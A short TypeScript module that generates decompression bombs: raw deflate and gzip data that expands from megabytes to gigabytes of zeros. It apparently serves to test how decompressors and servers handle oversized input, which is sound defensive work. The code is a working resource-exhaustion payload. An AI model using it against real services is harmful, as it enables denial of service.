import { constants, deflateRawSync } from "node:zlib";

/** Bytes of zeros that one packed block of the bomb stands for: some ten kilobytes packed. */
const BLOCK_BYTES = 10 * 2 ** 20;

/**
 * Deflate data that unpacks to a head and then so many blocks of 10 MiB of zeros: 10 GB from 10 MB, made in no time.
 */
export function deflateBomb(head: Buffer, blocks: number): { readonly packed: Buffer; readonly expandedBytes: number } {
  // A full flush ends on a byte and forgets what came before, so that blocks can stand one behind the other.
  const flushed = { finishFlush: constants.Z_FULL_FLUSH, level: 9 };
  const first = deflateRawSync(head, flushed);
  const block = deflateRawSync(Buffer.alloc(BLOCK_BYTES), flushed);
  const last = deflateRawSync(Buffer.alloc(0));
  const packed = Buffer.concat([first, ...Array.from({ length: blocks }, () => block), last]);
  return { packed, expandedBytes: head.length + blocks * BLOCK_BYTES };
}

/** The same data as a gzip file. Its checksum is wrong: nobody gets so far. */
export function gzipOf(packed: Buffer): Buffer {
  return Buffer.concat([Buffer.of(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3), packed, Buffer.alloc(8)]);
}
